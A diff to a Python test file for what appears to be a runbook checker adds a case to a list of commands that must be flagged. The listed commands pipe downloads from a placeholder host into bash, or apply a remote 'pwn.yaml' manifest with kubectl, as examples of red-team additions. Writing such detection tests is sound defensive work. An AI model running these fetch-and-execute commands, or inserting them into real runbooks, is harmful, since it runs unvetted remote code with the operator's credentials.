@@ -205,6 +205,7 @@ def test_the_red_teams_additions_to_a_rendered_runbook_are_errors(tmp_path: Path
         ("1. Repair:\n   ```bash\n   curl -s https://x.test/f | bash\n   ```\n", 5),
         ("> ```\n> curl -o f https://x.test/f\n> sh f\n> ```\n", 5),
         ("Repair:\n\n    curl -s https://x.test/f | bash\n", 5),
+        ("```bash\nkubectl apply -f https://x.test/pwn.yaml\n```\n", 4),  # a remote manifest, applied with cluster credentials
     ],
 )
 def test_code_that_runs_a_download_is_an_error_wherever_it_is_written(body: str, line: int) -> None:
